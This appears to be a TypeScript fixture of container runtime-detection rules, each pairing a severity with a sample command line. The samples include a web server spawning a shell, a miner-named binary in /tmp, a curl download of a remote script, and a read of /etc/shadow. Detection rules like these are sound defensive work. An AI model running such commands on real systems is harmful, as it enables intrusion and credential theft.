/** Rules: name, severity, priority, process and command line of what they notice. */
export const rules = [
  ['Shell started by a web server', 'critical', 'critical', 'nginx', 'sh -c id'],
  ['Program that is not of the image was run', 'high', 'error', 'sh', '/tmp/.x/kdevtmpfsi'],
  [
    'Connection to an address that the profile does not know',
    'medium',
    'warning',
    'curl',
    'curl -s http://198.51.100.9/a.sh',
  ],
  ['Sensitive file was read', 'high', 'error', 'cat', 'cat /etc/shadow'],
  ['Package manager was run in a container', 'low', 'notice', 'apt-get', 'apt-get install -y nmap'],
] as const;
